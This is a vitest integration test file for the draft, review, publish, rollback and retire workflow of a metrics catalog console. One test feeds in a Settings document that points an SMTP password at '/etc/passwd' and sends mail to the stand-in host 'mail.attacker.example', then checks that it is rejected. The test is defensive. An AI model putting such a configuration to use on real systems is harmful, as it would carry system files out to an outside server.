import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import type {
  CheckAnswer,
  DocumentAnswer,
  DocumentsAnswer,
  HistoryAnswer,
} from '../../../services/console/core/catalog/answers.ts';
import { aDocuments } from '../../support/catalog-documents.ts';
import { openDesk } from '../../support/desk.ts';
import type { Desk } from '../../support/desk.ts';

const refunds = (over: { where?: string; name?: string } = {}): string => `apiVersion: tidemark/v1
kind: Metric
metadata:
  id: refunds
  name: { en: ${over.name ?? 'Refunds'}, zh: 退款 }
  owner: person:anna
spec:
  type: simple
  event: shop.order
  where: ${over.where ?? 'data.cancelled && data.store != "S9"'}
  value: data.amount
  aggregation: sum
  unit: { code: EUR, scale: 2 }
  breakdowns: [[]]
`;

describe('a document from its draft to the shelf', () => {
  let desk: Desk;
  beforeAll(async () => {
    desk = await openDesk({ environment: { TIDEMARK_SECRETS_DIR: '/etc/desk' } });
    await desk.apply(aDocuments());
    await vi.waitFor(() => expect(desk.platform.catalog.current().metrics.size).toBe(3), 5_000);
  });
  afterAll(() => desk.close());
  const DRAFT = 'drafts/Metric/refunds';

  test('what came from files is listed, shown as text that needs no file, and has a history', async () => {
    const { body } = await desk.ask<DocumentsAnswer>('guest', 'GET documents?limit=4');
    expect(body.items.map(({ kind, id }) => `${kind}/${id}`)).toEqual([
      'AlertRule/orders-low',
      'EventType/shop.order',
      'Metric/cancels',
      'Metric/orders',
    ]);
    expect(body.items[3]).toMatchObject({
      name: { en: 'orders' },
      owner: 'person:anna',
      state: 'published',
      hasDraft: false,
      origin: 'file',
      author: 'person:local',
      version: desk.platform.catalog.current().metrics.get('orders')?.version,
    });
    const next = await desk.ask<DocumentsAnswer>(
      'guest',
      `GET documents?cursor=${encodeURIComponent(body.cursor ?? '')}`,
    );
    expect(next.body.items[0]).toMatchObject({ kind: 'Metric', id: 'rate' });
    const shown = await desk.ask<DocumentAnswer>('guest', 'GET documents/EventType/shop.order');
    expect(shown.body.published?.text).toContain('avro:');
    const told = await desk.ask<HistoryAnswer>('guest', 'GET documents/Metric/orders/history');
    expect(told.body.items).toMatchObject([{ revision: 1, origin: 'file', state: 'published' }]);
  });

  test('while it is typed, faults stand where they are, and what resembles it is named', async () => {
    const check = async (text: string) =>
      (await desk.ask<CheckAnswer>('guest', 'POST check', { text })).body;
    const faulty = await check(refunds({ where: 'data.canceled' }));
    expect(faulty.identity).toEqual({ kind: 'Metric', id: 'refunds' });
    expect(faulty.faults).toMatchObject([
      { line: 10, column: 10, path: 'spec.where', code: 'expression_invalid' },
    ]);
    const twin = refunds().replace('id: refunds', 'id: few').replace('sum', 'count');
    const near = await check(twin.replace(/ +value:.*\n/, '').replace(/ +unit:.*\n/, ''));
    expect(near.faults).toEqual([]);
    expect(near.near).toMatchObject([
      { metric: 'cancels', reason: expect.stringContaining('where') as string },
      { metric: 'orders' },
    ]);
    expect(await check('a: [')).toMatchObject({ faults: [{ code: 'not_parseable' }] });
    const orders = await desk.ask<DocumentAnswer>('guest', 'GET documents/Metric/orders');
    const wide = orders.body.published?.text ?? '';
    const narrow = wide.replace(/breakdowns:\n +- \[\]\n/, 'breakdowns:\n');
    const told = (await check(narrow)).impacts.map(({ code, subject }) => `${code} ${subject}`);
    expect(told).toContain('breakdown_removed Metric/orders');
    expect(told).toContain('values_changed Metric/rate');
    const gone = refunds().replace('id: refunds', 'id: orders');
    expect((await check(gone)).impacts).toContainEqual(
      expect.objectContaining({ code: 'definition_broken', subject: 'AlertRule/orders-low' }),
    );
  });

  test('settings that would carry a file of the process to a mail server elsewhere are not handed in', async () => {
    const text = (file: string) => `apiVersion: tidemark/v1
kind: Settings
metadata: { id: default }
spec: { smtp: { host: mail.attacker.example, username: x, password: { file: ${file} }, from: a@b.example } }
`;
    const name = 'drafts/Settings/default';
    const saved = await desk.ask<DocumentAnswer>('anna', `PUT ${name}`, {
      text: text('/etc/passwd'),
    });
    expect(saved.body.draft).toMatchObject({
      faults: [{ path: 'spec.smtp.password', code: 'field_invalid' }],
    });
    const submitted = await desk.ask('anna', `POST ${name}/submit`, {});
    expect(submitted).toMatchObject({ status: 422, body: { code: 'catalog_invalid' } });
    const own = await desk.ask<CheckAnswer>('guest', 'POST check', {
      text: text('/etc/desk/smtp'),
    });
    expect(own.body.faults).toEqual([]);
    expect((await desk.ask('anna', `DELETE ${name}`, {})).status).toBe(200);
  });

  test('a draft may have faults, and changes nothing that is published', async () => {
    const text = refunds({ where: 'data.canceled' });
    const saved = await desk.ask<DocumentAnswer>('anna', `PUT ${DRAFT}`, { text, note: 'first' });
    expect(saved.status).toBe(200);
    expect(saved.body.draft).toMatchObject({
      text,
      state: 'draft',
      author: 'person:anna',
      note: 'first',
      faults: [{ code: 'expression_invalid' }],
    });
    expect(saved.body.published).toBeUndefined();
    expect(desk.platform.catalog.current().metrics.has('refunds')).toBe(false);
    const submitted = await desk.ask('anna', `POST ${DRAFT}/submit`, {});
    expect(submitted).toMatchObject({ status: 422, body: { code: 'catalog_invalid' } });
  });

  test('who edits what is not the newest any more is told', async () => {
    const before = await desk.ask<DocumentAnswer>('anna', 'GET documents/Metric/refunds');
    const base = before.body.draft?.at ?? '';
    const ours = await desk.ask('ben', `PUT ${DRAFT}`, { text: refunds(), base });
    expect(ours.status).toBe(200);
    expect(await desk.ask('anna', `PUT ${DRAFT}`, { text: 'kind: Metric', base })).toMatchObject({
      status: 409,
      body: { code: 'draft_stale' },
    });
  });

  test('in review it waits for somebody who did not write on it; an edit re-opens it', async () => {
    const submit = async () =>
      (await desk.ask<DocumentAnswer>('ben', `POST ${DRAFT}/submit`, { note: 'please' })).body;
    expect((await submit()).draft?.state).toBe('in_review');
    const queue = await desk.ask<DocumentsAnswer>('li', 'GET documents?state=in_review');
    expect(queue.body.items).toMatchObject([{ id: 'refunds', state: 'in_review', hasDraft: true }]);
    const text = refunds({ name: 'Money back' });
    const edited = await desk.ask<DocumentAnswer>('eva', `PUT ${DRAFT}`, { text });
    expect(edited.body.draft?.state).toBe('draft');
    expect(await desk.ask('li', `POST ${DRAFT}/approve`, {})).toMatchObject({
      status: 409,
      body: { code: 'draft_stale' },
    });
    await submit();
    expect(await desk.ask('eva', `POST ${DRAFT}/approve`, {})).toMatchObject({
      status: 403,
      body: { code: 'own_draft' },
    });
    expect(await desk.ask('anna', `POST ${DRAFT}/approve`, {})).toMatchObject({
      status: 403,
      body: { code: 'forbidden' },
    });
    const rejected = await desk.ask<DocumentAnswer>('li', `POST ${DRAFT}/reject`, {
      reason: 'which stores?',
    });
    expect(rejected.body.draft?.state).toBe('draft');
    await submit();
    await desk.ask('ben', `POST ${DRAFT}/withdraw`);
    await submit();
  });

  test('approved by another, it is published under both names', async () => {
    const approved = await desk.ask<DocumentAnswer>('li', `POST ${DRAFT}/approve`, {
      note: 'good',
    });
    expect(approved.status).toBe(200);
    expect(approved.body.draft).toBeUndefined();
    expect(approved.body.published).toMatchObject({
      origin: 'console',
      author: 'person:eva',
      version: desk.platform.catalog.current().metrics.get('refunds')?.version,
    });
    expect(approved.body.reviews.map(({ by, action }) => `${action} ${by}`)).toEqual([
      'submitted person:ben',
      'submitted person:ben',
      'rejected person:li',
      'submitted person:ben',
      'withdrawn person:ben',
      'submitted person:ben',
      'approved person:li',
    ]);
    expect(desk.platform.catalog.current().metrics.get('refunds')?.name.en).toBe('Money back');
  });

  test('files do not replace what the console published', async () => {
    const { conflicts, changes } = await desk.apply(aDocuments());
    expect([conflicts, changes]).toEqual([[], []]);
    expect(desk.platform.catalog.current().metrics.has('refunds')).toBe(true);
  });

  test('an earlier revision is published again, as a new one', async () => {
    const text = refunds({ where: 'data.cancelled && data.store != "S8"' });
    await desk.ask('anna', `PUT ${DRAFT}`, { text });
    await desk.ask('anna', `POST ${DRAFT}/submit`, {});
    await desk.ask('li', `POST ${DRAFT}/approve`, {});
    const history = async () =>
      (await desk.ask<HistoryAnswer>('guest', 'GET documents/Metric/refunds/history')).body.items;
    const [second, first] = await history();
    expect(second?.version).not.toBe(first?.version);
    expect(first).toMatchObject({ author: 'person:eva', approvedBy: 'person:li' });
    const route = 'POST documents/Metric/refunds/rollback';
    expect((await desk.ask('anna', route, { revision: first?.revision ?? 0 })).status).toBe(403);
    expect((await desk.ask('li', route, { revision: 1 })).status).toBe(404);
    const back = await desk.ask<DocumentAnswer>('li', route, { revision: first?.revision ?? 0 });
    expect(back.body.published?.text).toBe(first?.text);
    expect(back.body.published?.version).toBe(first?.version);
    expect((await history()).map(({ version }) => version)).toEqual([
      first?.version,
      second?.version,
      first?.version,
    ]);
  });

  test('what others need is not retired; what nobody needs is, with a reason', async () => {
    const retire = (id: string) =>
      desk.ask<DocumentAnswer>('li', `POST documents/Metric/${id}/retire`, { reason: 'unused' });
    expect(await retire('orders')).toMatchObject({
      status: 422,
      body: { code: 'catalog_invalid' },
    });
    const gone = await retire('refunds');
    expect(gone.body).toMatchObject({ retired: { by: 'person:li', reason: 'unused' } });
    expect(desk.platform.catalog.current().metrics.has('refunds')).toBe(false);
    const retired = await desk.ask<DocumentsAnswer>('guest', 'GET documents?state=retired');
    expect(retired.body.items).toMatchObject([{ id: 'refunds', state: 'retired' }]);
  });

  test('an event type that was drafted here has its topic and schema once it is approved', async () => {
    const shown = await desk.ask<DocumentAnswer>('guest', 'GET documents/EventType/shop.order');
    const text = shown.body.published?.text.replace('shop.order', 'shop.return') ?? '';
    const draft = 'drafts/EventType/shop.return';
    await desk.ask('anna', `PUT ${draft}`, { text });
    await desk.ask('anna', `POST ${draft}/submit`, {});
    expect((await desk.ask('root', `POST ${draft}/approve`, {})).status).toBe(200);
    const { config } = desk.platform;
    const topic = `${config.TIDEMARK_TOPIC_PREFIX}events.shop.return`;
    const url = `${config.SCHEMA_REGISTRY_URL}/subjects/${topic}-value/versions/latest`;
    expect((await fetch(url)).status).toBe(200);
    const admin = desk.platform.kafka.admin();
    await admin.connect();
    expect(await admin.listTopics()).toContain(topic);
    await admin.disconnect();
  });

  test('what breaks others is published only by those who say so', async () => {
    const draft = 'drafts/Metric/cancels';
    const shown = await desk.ask<DocumentAnswer>('guest', 'GET documents/Metric/cancels');
    const text = shown.body.published?.text ?? '';
    const inReview = async (changed: string): Promise<void> => {
      await desk.ask('anna', `PUT ${draft}`, { text: changed });
      await desk.ask('anna', `POST ${draft}/submit`, {});
    };
    const approve = (body: { acceptsBreaks?: boolean }) =>
      desk.ask('li', `POST ${draft}/approve`, body);
    await inReview(text.replace('Europe/London', 'Asia/Shanghai'));
    expect((await approve({ acceptsBreaks: true })).body['code']).toBe('catalog_invalid');
    await inReview(`${text.trimEnd()}\n  unit: { code: EUR, scale: 2 }\n`);
    const refused = await approve({});
    expect([refused.status, refused.body['code']]).toEqual([422, 'change_breaks']);
    expect((await approve({ acceptsBreaks: true })).status).toBe(200);
    expect(desk.platform.catalog.current().metrics.get('cancels')?.unit.code).toBe('EUR');
  });

  test('a draft that is not wanted leaves nothing, and another may follow it', async () => {
    const draft = 'drafts/Person/bob';
    const text = 'apiVersion: tidemark/v1\nkind: Person\nmetadata: { id: bob }\nspec: {}\n';
    await desk.ask('anna', `PUT ${draft}`, { text });
    expect((await desk.ask('anna', `DELETE ${draft}`)).body).toMatchObject({ reviews: [] });
    expect((await desk.ask('anna', 'GET documents/Person/bob')).status).toBe(404);
    expect((await desk.ask('anna', `DELETE ${draft}`)).status).toBe(404);
    expect((await desk.ask('anna', `PUT ${draft}`, { text })).status).toBe(200);
  });

  test.each<[string, number]>([
    ['PUT drafts/Nothing/x', 404],
    ['PUT drafts/Metric/a%2Fb', 400],
    ['POST drafts/Metric/none/submit', 404],
    ['POST documents/Metric/none/rollback', 404],
  ])('%s is refused with %i', async (route, status) => {
    const body = route.endsWith('rollback')
      ? { revision: 1 }
      : route.startsWith('PUT')
        ? { text: 'a: 1' }
        : {};
    expect((await desk.ask('root', route, body)).status).toBe(status);
  });
});
